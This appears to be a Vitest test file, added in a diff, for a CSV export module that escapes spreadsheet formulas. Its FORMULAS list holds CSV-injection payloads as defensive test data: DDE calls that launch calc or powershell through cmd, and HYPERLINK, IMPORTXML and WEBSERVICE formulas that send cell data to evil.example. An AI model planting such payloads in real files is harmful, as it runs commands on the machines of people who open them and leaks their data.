@@ -1,0 +1,191 @@
+import { parse } from "csv-parse/sync";
+import { stringify } from "csv-stringify/sync";
+import fc from "fast-check";
+import { expect, test } from "vitest";
+import { type CsvCell, csvAnswer, originalText } from "./csv.ts";
+
+async function* each<Row>(rows: readonly Row[]): AsyncGenerator<Row> {
+  yield* rows;
+}
+
+async function write(...rows: CsvCell[][]): Promise<string> {
+  const bytes = await csvAnswer("tabla.csv", each(rows)).bytes();
+  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
+}
+
+/** The cells as a spreadsheet gets them. */
+function read(csv: string): string[][] {
+  return parse(csv, { bom: true, delimiter: ";", recordDelimiter: "\r\n" });
+}
+
+/** What ends up in the only cell of a table. */
+async function cellOf(text: string): Promise<string> {
+  return read(await write([text]))[0]?.[0] ?? "";
+}
+
+const FORMULAS = [
+  "=1+1",
+  "=SUM(A1:A9)",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1,"Ver")',
+  '=IMPORTXML("http://evil.example","//a")',
+  '=WEBSERVICE("http://evil.example")',
+  '=DDE("cmd";"/C calc";"!A0")',
+  "=2+5+cmd|' /C powershell'!A0",
+  '=IFERROR(IMPORTRANGE("x";"A1");"")',
+  "=@SUM(1)",
+  "=-1",
+  "=",
+  "==",
+  "+1+1",
+  "+54 9 11 5555-5555",
+  "+cmd|' /C notepad'!A1",
+  "+",
+  "-1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "- algodón",
+  "-",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "@usuario",
+  "@",
+  "\t=1+1",
+  "\tTexto",
+  "\t",
+  "\r=1+1",
+  "\rTexto",
+  "\r\n=1+1",
+  " =1+1",
+  "   +1",
+  "\u00A0=1+1",
+  "\u3000-1",
+  "\uFEFF=1+1",
+  " \t=1+1",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(1)",
+  " ＝1+1",
+  "Remera\n=1+1",
+  "Remera\r\n=1+1",
+  "Remera\r=1+1",
+  "Remera\n  @SUM(1)",
+  "Remera\n\t=1+1",
+  "Lavado:\n- a mano\n- en frío",
+  'Remera";=1+1;"',
+  "Remera\n＝1+1",
+  "'=1+1",
+  "''=1+1",
+  "' =1+1",
+  "'\t",
+];
+
+const MAY_BE_FORMULA = /^[ \u00A0\u3000\uFEFF]*[=+\-@\t＝＋－＠]/;
+
+test.each(FORMULAS)("%j does nothing in a spreadsheet and comes back as it was", async (formula) => {
+  const cell = await cellOf(formula);
+
+  for (const line of cell.split(/[\r\n]/)) expect(line).not.toMatch(MAY_BE_FORMULA);
+  expect(cell).not.toMatch(/^\r/);
+  expect(originalText(cell)).toBe(formula);
+});
+
+test("each of the formulas is told apart from the others", async () => {
+  const cells = await Promise.all(FORMULAS.map(cellOf));
+
+  expect(new Set(cells).size).toBe(FORMULAS.length);
+});
+
+test.each(["Remera", "a=b", "1-2", "a @ b", "'80", "d'Or", "", " ", 'Pantalón; de "lino"', "a\nb"])(
+  "%j stays as it is",
+  async (text) => {
+    expect(await cellOf(text)).toBe(text);
+  },
+);
+
+test("the whole file: a mark, semicolons, quotes where they are needed, CRLF", async () => {
+  const csv = await write(["nombre", "precio"], ['Remera "Ñandú"; azul', 1234.5], ["=1+1", null]);
+
+  expect(csv).toBe('\uFEFFnombre;precio\r\n"Remera ""Ñandú""; azul";1234,5\r\n\'=1+1;\r\n');
+});
+
+test.each([
+  [0, "0"],
+  [1234567.89, "1234567,89"],
+  [-12.5, "-12,5"],
+  [9_999_999_999.99, "9999999999,99"],
+  [0.0000001, "0,0000001"],
+  [1e21, "1000000000000000000000"],
+])("the number %d is written %s", async (number, written) => {
+  expect(await write([number])).toBe(`\uFEFF${written}\r\n`);
+});
+
+const cell = fc.oneof(
+  fc.string({ unit: "grapheme" }),
+  fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "'", '"', ";", ",", " ", "a", "＝") }),
+);
+const table = fc
+  .integer({ min: 1, max: 5 })
+  .chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width })));
+
+test("whatever is written is read back", async () => {
+  await fc.assert(
+    fc.asyncProperty(table, async (rows) => {
+      const cells = read(await write(...rows));
+
+      expect(cells.map((row) => row.map(originalText))).toEqual(rows);
+    }),
+    { numRuns: 1_000 },
+  );
+});
+
+test("texts of one line are written as csv-stringify writes them", async () => {
+  const options = { bom: true, delimiter: ";", record_delimiter: "windows", escape_formulas: true } as const;
+  // It looks at the first character only: what stands behind spaces, line breaks and apostrophes is for the tests above.
+  const plain = fc.string({ unit: "grapheme", minLength: 1 }).filter((text) => !/^[\s']|[\r\n]/.test(text));
+
+  await fc.assert(
+    fc.asyncProperty(fc.array(fc.array(plain, { minLength: 1, maxLength: 4 })), async (rows) => {
+      expect(await write(...rows)).toBe(rows.length > 0 ? stringify(rows, options) : "\uFEFF");
+    }),
+    { numRuns: 1_000 },
+  );
+});
+
+test("the answer is a file that nobody stores", () => {
+  const { headers } = csvAnswer("ordenes.csv", each([]));
+
+  expect(headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
+  expect(headers.get("Content-Disposition")).toBe('attachment; filename="ordenes.csv"');
+  expect(headers.get("Cache-Control")).toBe("no-store");
+});
+
+test("rows are asked for as they are read, and no longer than somebody reads", async () => {
+  let asked = 0;
+  let ended = false;
+  async function* endless(): AsyncGenerator<CsvCell[]> {
+    try {
+      for (;;) {
+        asked += 1;
+        yield ["x".repeat(1_000)];
+      }
+    } finally {
+      ended = true;
+    }
+  }
+  const reader = csvAnswer("tabla.csv", endless()).body?.getReader();
+  await reader?.read();
+  await new Promise(setImmediate);
+
+  expect(asked).toBeLessThan(100);
+  await reader?.cancel();
+  expect(ended).toBe(true);
+});
+
+test("a table that breaks off is not taken for a whole one", async () => {
+  async function* broken(): AsyncGenerator<CsvCell[]> {
+    yield ["Remera"];
+    throw new Error("The database is away");
+  }
+
+  await expect(csvAnswer("tabla.csv", broken()).text()).rejects.toThrow("The database is away");
+});
